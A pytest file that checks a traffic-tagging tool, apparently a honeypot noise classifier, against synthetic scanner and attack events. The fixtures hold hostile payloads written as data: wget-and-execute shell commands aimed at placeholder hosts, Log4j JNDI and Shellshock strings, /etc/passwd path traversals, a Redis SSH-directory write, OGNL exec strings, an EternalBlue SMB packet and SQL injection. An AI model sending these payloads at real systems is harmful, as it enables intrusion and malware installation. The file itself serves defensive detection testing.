"""The default tag set, judged on generated events: one table row per case,
each event from its own source address, imported with `trawl noise import`
and read back with `trawl noise ip --json`. Every default tag must have a
case, so a tag added without a test fails here."""
import base64
import datetime
import json
import socket
import struct

import pytest

DST = "198.51.100.1"
DST_INT = struct.unpack("!I", socket.inet_aton(DST))[0]


def now():
    return datetime.datetime.now(datetime.timezone.utc).strftime("%Y-%m-%dT%H:%M:%S.%fZ")


def event(src, dst_port, proto, transport="tcp", payload=b"", fields=None, handshake=True, **nums):
    e = {"time": now(), "sensor": "test-sensor", "src_ip": src, "src_port": 40000,
         "dst_ip": DST, "dst_port": dst_port, "transport": transport, "proto": proto,
         "handshake": handshake, "fields": fields or {}}
    if payload:
        e["payload_b64"] = base64.b64encode(payload).decode()
    e.update(nums)
    return e


def syn(src, dst_port=80, **nums):
    return event(src, dst_port, "syn", handshake=False, **nums)


def http(src, path, ua=None, method="GET", query="", port=80, headers=(), body=b"",
         content_type=None):
    target = path + ("?" + query if query else "")
    lines = ["%s %s HTTP/1.1" % (method, target), "Host: %s" % DST]
    fields = {"http_method": method, "http_path": path, "http_version": "HTTP/1.1",
              "http_host": DST}
    if query:
        fields["http_query"] = query
    if ua is not None:
        lines.append("User-Agent: " + ua)
        fields["http_user_agent"] = ua
    if content_type is not None:
        lines.append("Content-Type: " + content_type)
        fields["http_content_type"] = content_type
    lines.extend(headers)
    raw = ("\r\n".join(lines) + "\r\n\r\n").encode() + body
    return event(src, port, "http", payload=raw, fields=fields)


def masscan_id(seq, dport):
    return (DST_INT ^ dport ^ seq) & 0xFFFF


SEQ = 4031184196
EB = (b"\x00\x00\x00\x4e" + b"\xffSMB\x32\x00\x00\x00\x00\x18\x07\xc0" + b"\x00" * 12 +
      b"\xff\xfe\x00\x08\x41\x00\x0f\x0c\x00\x00\x00\x01\x00\x00\x00\x00\x00\x00\x00\xa6\xd9"
      b"\xa4\x00\x00\x00\x0c\x00\x42\x00\x00\x00\x4e\x00\x01\x00\x0e\x00\x0d\x00" + b"\x00" * 16)
SNMP = bytes.fromhex("302602010104067075626c6963a019020400000001020100020100300b300906052b060102010500")
ADB = b"CNXN\x00\x00\x00\x01\x00\x10\x00\x00\x07\x00\x00\x00\x32\x02\x00\x00\xbc\xb1\xa7\xb1host::\x00"
RDP = bytes.fromhex("0300002b26e00000000000") + b"Cookie: mstshash=admin\r\n" + bytes.fromhex("0100080003000000")
MOZI_Q = ("next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://203.0.113.7:8088/Mozi.m"
          "+-O+/tmp/netgear;sh+netgear&curpath=/&currentsetting.htm=1")
CONFLUENCE = ("/%24%7B%28%23a%3D%40org.apache.commons.io.IOUtils%40toString%28%40java.lang.Runtime"
              "%40getRuntime%28%29.exec%28%22id%22%29.getInputStream%28%29%2C%22utf-8%22%29%29%7D/")

# (event builder taking the source address, tags it must get)
CASES = [
    (lambda s: syn(s, ip_id=54321, tcp_window=65535, ttl=250), {"ZMap Client"}),
    (lambda s: syn(s, 443, ip_id=1234, tcp_window=65535, ttl=61, fields={"scanner": "zmap"}),
     {"ZMap Client"}),
    (lambda s: syn(s, 8, ip_id=masscan_id(SEQ, 8), tcp_window=1024, ttl=250, tcp_seq=SEQ),
     {"Masscan Client"}),
    (lambda s: syn(s, 22, ip_id=0xAC56, tcp_window=1024, ttl=38, tcp_options="2", tcp_seq=12345),
     {"Nmap"}),
    (lambda s: syn(s, 23, ip_id=777, tcp_window=14600, ttl=52, tcp_seq=DST_INT), {"Mirai"}),
    (lambda s: syn(s, 2323, fields={"scanner": "mirai"}), {"Mirai"}),
    (lambda s: syn(s, 80, ip_id=0x0D91, tcp_window=512, ttl=64, tcp_seq=99), {"hping3"}),
    (lambda s: http(s, "/", "Mozilla/5.0 zgrab/0.x"), {"ZGrab Scanner"}),
    (lambda s: http(s, "/", "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)"),
     {"Nuclei Scanner"}),
    (lambda s: http(s, "/", "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)"), {"Nikto"}),
    (lambda s: http(s, "/", "sqlmap/1.7#stable (https://sqlmap.org)"), {"sqlmap"}),
    (lambda s: event(s, 5060, "raw", "udp",
                     b"OPTIONS sip:100@198.51.100.1 SIP/2.0\r\nUser-Agent: friendly-scanner\r\n\r\n"),
     {"SIPVicious Scanner", "SIP Scanner"}),
    (lambda s: event(s, 5060, "raw", "udp", b"REGISTER sip:198.51.100.1 SIP/2.0\r\n\r\n"),
     {"SIP Scanner"}),
    (lambda s: http(s, "/", "Go-http-client/1.1"), {"Go HTTP Client"}),
    (lambda s: http(s, "/", "python-requests/2.31.0"), {"Python Requests Client"}),
    (lambda s: http(s, "/", "Python-urllib/3.11"), {"Python urllib Client"}),
    (lambda s: http(s, "/", "curl/7.88.1"), {"curl"}),
    (lambda s: http(s, "/", "Wget/1.21.3"), {"Wget"}),
    (lambda s: http(s, "/", "libwww-perl/6.68"), {"libwww-perl Client"}),
    (lambda s: event(s, 22, "ssh", fields={"ssh_client": "SSH-2.0-Go"}),
     {"Go SSH Client", "SSH Scanner"}),
    (lambda s: event(s, 22, "ssh", fields={"ssh_client": "SSH-2.0-paramiko_3.1.0"}),
     {"Paramiko SSH Client"}),
    (lambda s: event(s, 22, "ssh", fields={"ssh_client": "SSH-2.0-libssh_0.10.4"}),
     {"libssh Client"}),
    (lambda s: event(s, 22, "ssh", fields={"ssh_client": "SSH-2.0-OpenSSH_9.2p1"}),
     {"SSH Scanner"}),
    (lambda s: event(s, 22, "ssh", fields={"ssh_client": "SSH-2.0-OpenSSH_9.2p1",
                                           "username": "root", "password": "123456"}),
     {"SSH Bruteforcer"}),
    (lambda s: http(s, "/"), {"HTTP Request Without User-Agent"}),
    (lambda s: http(s, "/robots.txt", "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)"),
     {"Web Crawler"}),
    (lambda s: http(s, "/", "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"),
     {"Googlebot", "Web Crawler"}),
    (lambda s: http(s, "/", "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)"),
     {"Bingbot"}),
    (lambda s: http(s, "/", "Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)"),
     {"Censys Scanner"}),
    (lambda s: http(s, "/", "Expanse, a Palo Alto Networks company, searches across the global IPv4 space"),
     {"Expanse Scanner"}),
    (lambda s: http(s, "/.env", "Mozilla/5.0"), {".env Scanner"}),
    (lambda s: http(s, "/laravel/.env.bak", "Mozilla/5.0"), {".env Scanner"}),
    (lambda s: http(s, "/.git/config", "Mozilla/5.0"), {"Git Config Crawler"}),
    (lambda s: http(s, "/containers/json", "Go-http-client/1.1", port=2375),
     {"Docker API Scanner", "Go HTTP Client"}),
    (lambda s: http(s, "/v1.24/version", "Mozilla/5.0", port=2376), {"Docker API Scanner"}),
    (lambda s: http(s, "/wp-includes/wlwmanifest.xml", "Mozilla/5.0"), {"WordPress Crawler"}),
    (lambda s: http(s, "/wp-login.php", "Mozilla/5.0", method="POST", body=b"log=admin&pwd=admin"),
     {"WordPress Login Bruteforcer"}),
    (lambda s: http(s, "/phpmyadmin/index.php", "Mozilla/5.0"), {"phpMyAdmin Scanner"}),
    (lambda s: http(s, "/_cat/indices", "Mozilla/5.0", port=9200), {"Elasticsearch Crawler"}),
    (lambda s: http(s, "example.com:443", "Mozilla/5.0", method="CONNECT"), {"Open Proxy Scanner"}),
    (lambda s: event(s, 3389, "rdp", payload=RDP, fields={"rdp_cookie": "mstshash=admin"}),
     {"RDP Crawler"}),
    (lambda s: event(s, 3389, "raw", payload=RDP), {"RDP Crawler"}),
    (lambda s: event(s, 6379, "redis", payload=b"*1\r\n$4\r\nINFO\r\n",
                     fields={"redis_command": "INFO"}), {"Redis Scanner"}),
    (lambda s: event(s, 6379, "redis", payload=b"CONFIG SET dir /root/.ssh\r\n",
                     fields={"redis_command": "CONFIG SET dir /root/.ssh"}),
     {"Redis Unauthorized Access Attempt", "Redis Scanner"}),
    (lambda s: event(s, 23, "telnet"), {"Telnet Scanner"}),
    (lambda s: event(s, 23, "telnet", fields={"username": "root", "password": "xc3511"}),
     {"Telnet Bruteforcer", "Telnet Scanner"}),
    (lambda s: event(s, 23, "telnet", fields={
        "command": "cd /tmp; wget http://203.0.113.50/x.sh; chmod +x x.sh; ./x.sh"}),
     {"Shell Downloader Attempt"}),
    (lambda s: event(s, 22, "ssh", fields={"download_url": "http://203.0.113.50/bins.sh"}),
     {"Shell Downloader Attempt"}),
    (lambda s: event(s, 123, "raw", "udp", b"\x17\x00\x03\x2a" + b"\x00" * 4), {"NTP Monlist Scanner"}),
    (lambda s: event(s, 1900, "raw", "udp",
                     b"M-SEARCH * HTTP/1.1\r\nHOST: 239.255.255.250:1900\r\nMAN: \"ssdp:discover\"\r\n\r\n"),
     {"SSDP Scanner"}),
    (lambda s: event(s, 161, "raw", "udp", SNMP), {"SNMP Scanner"}),
    (lambda s: event(s, 11211, "raw", "udp", b"\x00\x00\x00\x00\x00\x01\x00\x00stats\r\n"),
     {"Memcached Scanner"}),
    (lambda s: event(s, 5555, "raw", payload=ADB), {"ADB Crawler"}),
    (lambda s: event(s, 445, "smb", fields={"smb_dialects": "0x0202,0x0210"}), {"SMB Scanner"}),
    (lambda s: http(s, "/", "${jndi:ldap://203.0.113.9:1389/a}"), {"Log4j RCE Attempt"}),
    (lambda s: http(s, "/", "Mozilla/5.0", headers=["X-Api-Version: ${${lower:j}ndi:${lower:l}dap://x/a}"]),
     {"Log4j RCE Attempt"}),
    (lambda s: http(s, "/", "Mozilla/5.0", headers=["Referer: ${${::-j}${::-n}${::-d}${::-i}:${::-r}mi://x/a}"]),
     {"Log4j RCE Attempt"}),
    (lambda s: http(s, "/", "Mozilla/5.0",
                    headers=["X-Forwarded-For: ${${env:BARFOO:-j}ndi${env:BARFOO:-:}${env:BARFOO:-l}dap://x/a}"]),
     {"Log4j RCE Attempt"}),
    (lambda s: http(s, "/", "Mozilla/5.0", query="x=%24%7Bjndi%3Aldap%3A%2F%2Fx%7D"),
     {"Log4j RCE Attempt"}),
    (lambda s: http(s, "/cgi-bin/status", "() { :; }; /bin/bash -c 'id'"), {"Shellshock Attempt"}),
    (lambda s: http(s, "/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd", "Mozilla/5.0"),
     {"Apache HTTP Server Path Traversal Attempt", "Unix Password File Access Attempt"}),
    (lambda s: http(s, "/icons/.%%32%65/.%%32%65/bin/sh", "Mozilla/5.0", method="POST"),
     {"Apache HTTP Server Path Traversal Attempt"}),
    (lambda s: http(s, "/download", "Mozilla/5.0", query="file=../../../../etc/passwd"),
     {"Path Traversal Attempt", "Unix Password File Access Attempt"}),
    (lambda s: http(s, "/index.php", "Mozilla/5.0",
                    query="s=/Index/\\think\\app/invokefunction&function=call_user_func_array"
                          "&vars[0]=md5&vars[1][]=HelloThinkPHP21"),
     {"ThinkPHP RCE Attempt"}),
    (lambda s: event(s, 445, "smb", fields={"smb_dialects": "0x0202,0x0210,0x0300,0x0302,0x0311",
                                            "smb_compression": "1"}),
     {"SMBGhost Scanner", "SMB Scanner"}),
    (lambda s: event(s, 445, "smb", payload=EB), {"EternalBlue"}),
    (lambda s: http(s, "/struts2-showcase/index.action", "Mozilla/5.0",
                    content_type="%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}"),
     {"Apache Struts OGNL Injection Attempt"}),
    (lambda s: http(s, "/", "Mozilla/5.0", method="POST",
                    query="class.module.classLoader.resources.context.parent.pipeline.first.pattern=x"),
     {"Spring4Shell Attempt"}),
    (lambda s: http(s, CONFLUENCE, "Mozilla/5.0"), {"Atlassian Confluence OGNL Injection Attempt"}),
    (lambda s: http(s, "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "Mozilla/5.0",
                    method="POST", body=b"<?php echo md5('x'); ?>"),
     {"PHPUnit RCE Attempt"}),
    (lambda s: http(s, "/_ignition/execute-solution", "Mozilla/5.0", method="POST"),
     {"Laravel Ignition RCE Attempt"}),
    (lambda s: http(s, "/tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp", "Mozilla/5.0",
                    query="fileName=/etc/passwd"),
     {"F5 BIG-IP TMUI RCE Attempt", "Unix Password File Access Attempt"}),
    (lambda s: http(s, "/vpn/../vpns/cfg/smb.conf", "Mozilla/5.0"),
     {"Citrix ADC Path Traversal Attempt"}),
    (lambda s: http(s, "/remote/fgt_lang", "Mozilla/5.0",
                    query="lang=/../../../..//////////dev/cmdb/sslvpn_websession"),
     {"Fortinet FortiOS SSL VPN Path Traversal Attempt", "Path Traversal Attempt"}),
    (lambda s: http(s, "/dana-na/../dana/html5acc/guacamole/../../../../../../etc/passwd", "Mozilla/5.0"),
     {"Pulse Secure VPN Path Traversal Attempt", "Path Traversal Attempt"}),
    (lambda s: http(s, "/GponForm/diag_Form", "Mozilla/5.0", method="POST", query="images/"),
     {"GPON Router RCE Attempt"}),
    (lambda s: http(s, "/ctrlt/DeviceUpgrade_1", "Mozilla/5.0", method="POST", port=37215),
     {"Huawei HG532 RCE Attempt"}),
    (lambda s: http(s, "/picsdesc.xml", "Mozilla/5.0", method="POST", port=52869,
                    body=b"<NewInternalClient>`cd /tmp; wget http://x/a`</NewInternalClient>"),
     {"Realtek SDK miniigd RCE Attempt"}),
    (lambda s: http(s, "/ws/v1/cluster/apps/new-application", "Mozilla/5.0", method="POST", port=8088),
     {"Hadoop YARN RCE Attempt"}),
    (lambda s: http(s, "/ui/vropspluginui/rest/services/uploadova", "Mozilla/5.0", port=443),
     {"VMware vCenter RCE Attempt"}),
    (lambda s: http(s, "/autodiscover/autodiscover.json", "Mozilla/5.0",
                    query="@evil.com/mapi/nspi/?&Email=autodiscover/autodiscover.json%3F@evil.com"),
     {"Exchange ProxyShell Attempt"}),
    (lambda s: http(s, "/item", "Mozilla/5.0", query="id=1%20UNION%20SELECT%201,2,3"),
     {"SQL Injection Attempt"}),
    (lambda s: http(s, "/login", "Mozilla/5.0", query="user=admin'%20or%20'1'='1"),
     {"SQL Injection Attempt"}),
    (lambda s: http(s, "/setup.cgi", "Mozilla/5.0", query=MOZI_Q), {"Mozi Botnet"}),
    (lambda s: http(s, "/HNAP1/", "Mozilla/5.0"), {"D-Link HNAP Crawler"}),
]

# Ordinary traffic that must get no tag at all.
CLEAN = [
    lambda s: http(s, "/index.html", "Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0"),
    lambda s: syn(s, 443, ip_id=4242, tcp_window=29200, ttl=57, tcp_options="2,4,8,1,3", tcp_seq=5),
    lambda s: event(s, 22, "ssh"),
    lambda s: event(s, 53, "raw", "udp", b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00"),
]


def addr(i):
    return "203.0.113.%d" % (i + 1) if i < 250 else "198.51.100.%d" % (i - 240)


@pytest.fixture
def judged(trawl, tmp_path):
    events = [case(addr(i)) for i, (case, _) in enumerate(CASES)]
    events += [case(addr(len(CASES) + i)) for i, case in enumerate(CLEAN)]
    path = tmp_path / "events.jsonl"
    path.write_text("".join(json.dumps(e) + "\n" for e in events))
    p = trawl.run("noise", "import", path, check=0)
    assert "%d events stored" % len(events) in p.stdout
    return trawl


def ip_tags(trawl, ip):
    return set(json.loads(trawl.run("noise", "ip", "--json", ip, check=0).stdout)["tags"])


def test_every_case_gets_its_tags(judged):
    wrong = []
    for i, (_, want) in enumerate(CASES):
        got = ip_tags(judged, addr(i))
        if not want <= got:
            wrong.append("case %d (%s): want %s, got %s" % (i, addr(i), sorted(want), sorted(got)))
    assert not wrong, "\n".join(wrong)


def test_ordinary_traffic_gets_no_tag(judged):
    for i in range(len(CLEAN)):
        assert ip_tags(judged, addr(len(CASES) + i)) == set(), "clean case %d" % i


def test_every_default_tag_has_a_case(judged):
    tags = json.loads(judged.run("noise", "tags", "--json", check=0).stdout)
    names = {t["name"] for t in tags if t["builtin"]}
    assert len(names) >= 60
    covered = set().union(*(want for _, want in CASES))
    assert names - covered == set(), "default tags without a test case"
    # and each one tagged an address in this run
    assert {t["name"] for t in tags if t["builtin"] and t["ips"] == 0} == set()


def test_required_names_present(judged):
    tags = {t["name"]: t for t in json.loads(judged.run("noise", "tags", "--json", check=0).stdout)}
    required = ["ZMap Client", "Masscan Client", "Nmap", "Mirai", "SMBGhost Scanner", "EternalBlue",
                "Log4j RCE Attempt", "Shellshock Attempt",
                "Apache HTTP Server Path Traversal Attempt", "ThinkPHP RCE Attempt",
                ".env Scanner", "Git Config Crawler", "SSH Bruteforcer", "Telnet Bruteforcer",
                "RDP Crawler", "Redis Unauthorized Access Attempt", "Docker API Scanner",
                "Web Crawler", "Go HTTP Client", "Python Requests Client", "curl"]
    assert [r for r in required if r not in tags] == []
    assert tags["SMBGhost Scanner"]["cves"] == ["CVE-2020-0796"]
    assert "CVE-2021-44228" in tags["Log4j RCE Attempt"]["cves"]
    assert "CVE-2014-6271" in tags["Shellshock Attempt"]["cves"]
    assert {"CVE-2021-41773", "CVE-2021-42013"} <= set(
        tags["Apache HTTP Server Path Traversal Attempt"]["cves"])
    assert "CVE-2017-0144" in tags["EternalBlue"]["cves"]
    assert tags["Mirai"]["category"] == "worm" and tags["Mirai"]["intention"] == "malicious"
